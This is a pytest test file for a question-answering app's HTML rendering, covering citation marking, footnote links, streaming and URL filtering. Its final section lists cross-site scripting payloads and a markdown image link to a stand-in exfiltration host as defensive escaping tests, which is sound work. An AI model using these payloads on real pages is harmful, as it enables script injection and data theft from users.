"""The reading page, the excerpt and the rendered answer: the right words marked, all escaped."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from folders import ATTACKS, lines_of
from rag import (
    Answer,
    ArchivedPassage,
    Article,
    ArticleSummary,
    Attempt,
    BackendInfo,
    Citation,
    Conversation,
    ConversationSummary,
    Drafted,
    Evidence,
    Filters,
    Passage,
    Sentence,
    Span,
    StaleSource,
    Trace,
)
from ui.chat_controller import ChatTurn, answers_in, empty_library_html, stream_updates, turns_html
from ui.conversations_html import (
    archived_excerpt_html,
    archived_page_html,
    conversation_html,
    conversations_html,
    stale_sources_html,
)
from ui.examples import example_questions
from ui.filter_chips import chips_for, filter_chips_html, ignored_labels
from ui.filter_form import active_filters_html, filter_form_html
from ui.html import escape, safe_url
from ui.reading import MISPLACED, articles_html, excerpt_html, reading_html, unknown_article_html
from ui.render import answer_html, merge_adjacent, notice_html, turn_html

TEXT = (
    "Harbour reopens\n\nThe harbour of Esk reopened on Monday. Boats left at dawn.\n\n"
    "What comes next\n\nThe council wants a second pier. It costs 4 million."
)
SCRIPTS = ("/footnote/page.js", "/footnote/conversations.js")
AT = "2026-02-03T04:05:06.789+00:00"
VOID = frozenset({"meta", "link", "br", "hr", "img", "input"})
# Every element that the page makes on purpose.
EXPECTED = frozenset(
    """html head meta title link script body header nav main article section footer aside h1 h2 p a
    sup span strong mark blockquote time code pre details summary ol ul li div s form label input
    button select option""".split()
)


class Outline(HTMLParser):
    """Elements, attributes and text of a page, as a parser and not as a pattern sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.marked = ""
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag, f"</{tag}> closes nothing"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
        if "mark" in self._open:
            self.marked += data

    @property
    def skeleton(self) -> list[tuple[str, tuple[str, ...]]]:
        """Elements with the names of their attributes."""
        return [(tag, tuple(attributes)) for tag, attributes in self.elements]

    def addresses(self) -> list[str]:
        return [a["href"] or "" for tag, a in self.elements if tag == "a" and "href" in a]


def article(text: str = TEXT, **known: object) -> Article:
    fields = {"title": "Harbour reopens", "origin": "esk.md", "publisher": "Esk Times"} | known
    return Article.build(text, **fields)  # type: ignore[arg-type]


def answer(source: Article, *, question: str = "When?", verdict: str = "supported") -> Answer:
    """An answer that cites the second paragraph of ``source``, or all of a short one."""
    start = source.text.find("The harbour") if "The harbour" in source.text else 0
    end = min(len(source.text), start + 38)
    quote = source.text[start:end]
    evidence = Evidence(
        Passage(source.id, 0, len(source.text), source.text), source.source, 1, 0.5, ("dense",)
    )
    sentence = Sentence(quote, (Citation(source.id, start, end, quote),), verdict, 0.9, quote)  # type: ignore[arg-type]
    return Answer(
        question,
        (sentence,),
        (evidence,),
        BackendInfo("extractive"),
        False,
        True,
        Trace({"total": 0.02}),
    )


# -- marking ----------------------------------------------------------------------------------


def test_the_cited_words_are_marked_and_nothing_else() -> None:
    start = TEXT.index("Boats")
    outline = Outline(reading_html(article(), start, start + 20))
    assert outline.marked == "Boats left at dawn."[:20]
    assert [a for t, a in outline.elements if t == "mark"] == [{"id": "cited", "tabindex": "-1"}]


def test_a_span_over_paragraphs_is_marked_in_each_with_one_anchor() -> None:
    start, end = TEXT.index("Boats"), TEXT.index("wants")
    outline = Outline(reading_html(article(), start, end))
    assert outline.marked == TEXT[start:end].replace("\n\n", "")
    marks = [a for t, a in outline.elements if t == "mark"]
    assert len(marks) == 3
    assert [("id" in a) for a in marks] == [True, False, False]


@pytest.mark.parametrize(
    ("start", "end"),
    [(5, None), (None, 9), (-1, 5), (9, 9), (20, 10), (0, 10_000), (15, 17)],
    ids=["no end", "no start", "negative", "empty", "reversed", "too long", "white space"],
)
def test_a_span_that_does_not_fit_marks_nothing_and_says_so(
    start: int | None, end: int | None
) -> None:
    page = reading_html(article(), start, end)
    assert "<mark" not in page
    assert MISPLACED in page
    assert MISPLACED in excerpt_html(article(), start, end)


def test_without_a_span_the_page_says_nothing_about_it() -> None:
    assert MISPLACED not in reading_html(article())


@given(st.data())
def test_any_span_is_marked_exactly(data: st.DataObject) -> None:
    words = st.text(st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), max_size=30)
    parts = data.draw(st.lists(words, min_size=1, max_size=5))
    text = "\n\n".join(" ".join(p.split()) for p in parts if p.strip()) or "x"
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    wanted = "".join(text[start:end].split())
    for html in (
        reading_html(article(text), start, end),
        excerpt_html(article(text), start, end),
    ):
        assert "".join(Outline(html).marked.split()) == wanted


def test_headings_are_headings_and_a_repeated_title_stands_once() -> None:
    page = reading_html(article())
    assert '<h2 dir="auto">What comes next</h2>' in page
    assert page.count("Harbour reopens</h") == 1


def test_the_excerpt_holds_only_the_paragraphs_of_the_quote() -> None:
    start = TEXT.index("Boats")
    html = excerpt_html(article(published=date(2025, 2, 3)), start, start + 5)
    assert "The harbour of Esk" in html
    assert "second pier" not in html
    assert "Esk Times" in html and "3 February 2025" in html


# -- addresses ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>",
        "//host/path",
        "/articles",
        "http:/\\host",
        "https://good.org\\@bad.org/",
        "https://user@bad.org/",
        "http://",
        "https://[::1",
        "https://host:port/",
        " https://host/",
        "https://ho\u202est/",
        "https://host/\nx",
        "ftp://host/x",
        "https://host/" + "x" * 3_000,
    ],
)
def test_only_plain_addresses_become_links(url: str) -> None:
    assert safe_url(url) is None
    assert "outside" not in reading_html(article(url=url))


def test_a_plain_address_becomes_a_careful_link() -> None:
    page = Outline(reading_html(article(url="https://www.esk.example/a?b=1&c=2")))
    link = next(a for t, a in page.elements if a.get("class") == "outside")
    assert link["href"] == "https://www.esk.example/a?b=1&c=2"
    assert link["rel"] == "noopener noreferrer"
    assert "esk.example" in "".join(page.texts)


# -- answers -------------------------------------------------------------------------------------


def test_footnotes_are_links_to_the_words() -> None:
    source = article()
    shown = Outline(answer_html(answer(source)))
    link = next(a for t, a in shown.elements if a.get("class") == "footnote")
    start = TEXT.index("The harbour")
    assert link["href"] == f"/articles/{source.id}?start={start}&end={start + 38}#cited"
    assert "The harbour of Esk reopened on Monday" in (link["title"] or "")


def test_a_supported_sentence_is_quiet_and_others_say_why() -> None:
    quiet = answer_html(answer(article()))
    assert "verdict" not in quiet
    for verdict, words in (("partly", "Only partly"), ("unsupported", "Not supported")):
        html = answer_html(answer(article(), verdict=verdict))
        assert words in html and f"sentence {verdict}" in html
        assert html.count("The harbour of Esk reopened on Monday") > 1  # the reason is shown


def test_quotes_that_touch_share_a_footnote_and_others_get_letters() -> None:
    first, second, third = (Citation("a", n, n + 5, "x" * 5) for n in (0, 6, 40))
    assert merge_adjacent((third, second, first)) == [(first, second), (third,)]
    source = article()
    base = answer(source)
    far = TEXT.index("It costs")
    citations = (*base.sentences[0].citations, Citation(source.id, far, far + 8, "It costs"))
    both = replace(base, sentences=(replace(base.sentences[0], citations=citations),))
    assert re.findall(r">(\w+)</a></?s?", answer_html(both))[:2] == ["1a", "1b"]


def test_what_left_the_machine_and_who_was_tried_is_said() -> None:
    base = answer(article())
    assert "Nothing left this machine" in answer_html(base)
    trace = Trace({"total": 1.0}, (Attempt("mine", "it <timed> out"),), ("api.example.org",))
    html = answer_html(replace(base, trace=trace, complete=False))
    assert "Text was sent to api.example.org" in html
    assert "mine was tried first: it &lt;timed&gt; out" in html
    assert "Nothing left" not in html
    assert "broke off" in html


def test_a_refusal_is_calm_and_names_the_nearest_headlines_once() -> None:
    no = Sentence("The articles do not say.", (), "no_claim", 1.0, "")
    near = Sentence("The nearest to it: “Harbour reopens”.", (), "no_claim", 1.0, "")
    html = answer_html(replace(answer(article()), sentences=(no, near), refused=True))
    assert "The articles do not say." in html
    assert html.count("Harbour reopens") == 1
    assert "notice" not in html and "verdict" not in html


# -- the conversation ----------------------------------------------------------------------------


def test_nothing_asked_is_a_hint_and_no_turn() -> None:
    (update,) = stream_updates("  \n ", lambda question: iter(()))
    assert update.turn is None
    assert "Ask a question" in update.html


def test_a_question_beyond_the_limit_is_not_asked() -> None:
    def never(question: str) -> object:
        raise AssertionError("asked")

    (update,) = stream_updates("x" * 2_001, never)  # type: ignore[arg-type]
    assert update.turn and "2,000" in update.html and len(update.html) < 2_000


def test_updates_come_at_most_ten_a_second_and_end_with_the_answer() -> None:
    whole = answer(article())
    started = time.monotonic()

    def events(question: str) -> Iterator[Sentence | Answer]:
        for _ in range(50):
            time.sleep(0.01)
            yield whole.sentences[0]
        yield whole

    updates = list(stream_updates("When?", events))
    assert 3 <= len(updates) <= 3 + (time.monotonic() - started) / 0.1
    assert [bool(u.turn) for u in updates] == [False] * (len(updates) - 1) + [True]
    assert "footnote" in updates[-1].html and "aria-busy" not in updates[-1].html


def test_the_latest_news_is_shown_however_long_nothing_follows() -> None:
    whole = answer(article())
    going_on = threading.Event()

    def events(question: str) -> Iterator[Sentence | Drafted | Answer]:
        yield whole.sentences[0]
        yield Drafted("And then it", 1)
        assert going_on.wait(20)
        yield whole

    seen = []
    for update in stream_updates("When?", events):
        seen.append(update.html)
        if "And then it" in update.html:
            assert "not checked yet" in update.html and "growing" in update.html
            going_on.set()
    assert going_on.is_set() and "And then it" not in seen[-1]


def test_a_page_that_wants_no_more_closes_the_stream() -> None:
    closed = []

    class Events:
        def __iter__(self) -> Iterator[Drafted]:
            return iter([Drafted("The", 0)])

        def close(self) -> None:
            closed.append(True)

    states = stream_updates("When?", lambda question: Events())  # type: ignore[arg-type, return-value]
    next(states)
    next(states)
    states.close()  # type: ignore[attr-defined]
    assert closed == [True]


def test_a_turn_keeps_its_answer_for_the_questions_that_follow() -> None:
    whole = answer(article())
    *_, last = stream_updates("When?", lambda question: iter([whole]))
    assert last.turn is not None
    *_, failed = stream_updates("When?", lambda question: iter(()))
    assert failed.turn is not None
    assert answers_in((last.turn, failed.turn)) == (whole,)


def test_how_a_follow_up_was_read_is_shown() -> None:
    whole = answer(article())
    read = replace(whole, trace=replace(whole.trace, understood={"text": "When did <it> reopen?"}))
    assert "Read as: When did &lt;it&gt; reopen?" in answer_html(read)
    same = replace(whole, trace=replace(whole.trace, understood={"text": whole.question}))
    assert "Read as" not in answer_html(same)


def test_an_unforeseen_error_goes_to_the_log_and_not_to_the_page(
    caplog: pytest.LogCaptureFixture,
) -> None:
    def broken(question: str) -> object:
        raise RuntimeError("secret inner state")

    *_, last = stream_updates("When?", broken)  # type: ignore[arg-type]
    assert "secret" not in last.html and "Something went wrong" in last.html
    assert "secret inner state" in caplog.text


def test_a_stream_without_an_answer_is_an_error(caplog: pytest.LogCaptureFixture) -> None:
    *_, last = stream_updates("When?", lambda question: iter(()))
    assert "Something went wrong" in last.html
    assert "without an answer" in caplog.text


def test_the_empty_library_names_its_command_escaped(tmp_path: Path) -> None:
    html = empty_library_html(tmp_path / "<b>")
    assert "footnote ingest FOLDER --library" in html
    assert "<b>" not in html


# -- example questions -------------------------------------------------------------------------


def summaries(*titles: str) -> list[ArticleSummary]:
    return [ArticleSummary(article(title=title).source, 10, 1) for title in titles]


def test_examples_come_from_the_titles() -> None:
    assert example_questions([]) == ()
    asked = example_questions(summaries("Will it rain?", "City wins against Real Sociedad"))
    assert asked[0] == "Will it rain?"
    assert "What is reported about Real Sociedad?" in asked
    assert len(example_questions(summaries(*(f"Is {n} odd?" for n in range(9))))) == 4


# -- strange text ---------------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</mark></p></article><iframe src=//x>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "![x](https://exfil.example/?q=1) [x](javascript:alert(1))",
    "<!--",
    "]]>",
    "&lt;b&gt; &amp;",
    "\x00\ud800",
)


def every_place(hostile: str) -> list[str]:
    """Pages in which the text stands wherever a stranger's text can stand."""
    long = f"{hostile}\n\nThe harbour of Esk reopened on Monday. {hostile}"
    strange = article(
        long, title=hostile, origin=hostile, publisher=hostile, author=hostile, url=hostile,
        category=hostile,
    )  # fmt: skip
    told = answer(strange, question=hostile, verdict="unsupported")
    trace = Trace({"total": 1.0}, (Attempt(hostile, hostile),), (hostile,))
    told = replace(told, trace=trace, backend=BackendInfo(hostile, hostile))
    summary = ArticleSummary(strange.source, 1, 1)
    return [
        reading_html(strange),
        reading_html(strange, 0, len(long)),
        excerpt_html(strange, 0, len(long)),
        articles_html([summary], total=1, page=1, pages=1),
        unknown_article_html(hostile),
        turn_html(hostile, answer_html(told)),
        turn_html(hostile, answer_html(replace(told, refused=True))),
        notice_html("error", hostile, hostile),
        *kept_places(hostile, told),
    ]


def kept_places(hostile: str, told: Answer) -> list[str]:
    """The same for what is kept, and for filters."""
    source, citation = told.evidence[0].source, told.sentences[0].citations[0]
    understood = {
        "text": hostile,
        "publishers": [[hostile]],
        "missing_publishers": [hostile],
        "authors": [hostile],
        "articles": [hostile],
        "periods": [{"after": hostile, "before": hostile}],
    }
    told = replace(told, trace=replace(told.trace, understood=understood))
    filters = Filters(publishers=(hostile,), articles=(hostile,), ignoring=(hostile,))
    chips = chips_for(told, filters, {hostile: hostile})
    summary = ConversationSummary("0" * 16, hostile, AT, AT, 1)
    turn = ChatTurn(hostile, answer_html(told), told, number=1, conversation_id=hostile)
    kept = ArchivedPassage(told.evidence[0], Span(citation.start, citation.end), AT)
    listed = [ArticleSummary(replace(source, id=f"{n}", title=hostile), 1, 1) for n in range(2)]
    return [
        conversation_html(Conversation(summary, ()), (turn,)),
        conversations_html([summary], hostile, keeps=True),
        archived_excerpt_html(kept),
        archived_page_html(kept),
        archived_page_html(kept._replace(span=None)),
        stale_sources_html(told, {source.id: StaleSource(source, source.id)}),
        stale_sources_html(replace(told, refused=True), {source.id: StaleSource(source)}),
        filter_chips_html(chips, 1, ignored_labels(filters, {hostile: hostile})),
        filter_chips_html(chips, None),
        active_filters_html(filters, {hostile: hostile}),
        filter_form_html(listed),
    ]


def check_harmless(hostile: str) -> None:
    harmless = every_place("harmless")
    for page, plain in zip(every_place(hostile), harmless, strict=True):
        outline = Outline(page)
        assert {tag for tag, _ in outline.elements} <= EXPECTED
        for tag, attributes in outline.elements:
            assert not [name for name in attributes if name.startswith("on") or name == "style"]
            assert ("src" in attributes) == (tag == "script")
            assert attributes.get("src", SCRIPTS[0]) in SCRIPTS
        for href in outline.addresses():
            assert href.startswith(("/", "https://", "http://"))
        assert not any(mark in escape(hostile) for mark in "<>\"'`{}$")
        if safe_url(hostile) is None and len(hostile) < 60 and hostile.strip():
            assert len(outline.skeleton) == len(Outline(plain).skeleton)
        page.encode("utf-8")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_strange_text_stays_text(hostile: str) -> None:
    check_harmless(hostile)


@pytest.mark.parametrize("hostile", lines_of(ATTACKS / "scripts.txt"))
def test_script_strings_stay_text(hostile: str) -> None:
    check_harmless(hostile)


@given(st.text(max_size=80))
def test_escaped_text_reads_back_as_itself(text: str) -> None:
    expected = re.sub("[\x00\ud800-\udfff]", "\ufffd", text)
    parser = Outline(f'<p title="{escape(text)}">x</p>')
    assert parser.elements == [("p", {"title": expected})]


def test_the_past_keeps_the_order() -> None:
    html = turns_html((ChatTurn("one?", ""), ChatTurn("two?", "")))
    assert html.index("one?") < html.index("two?")
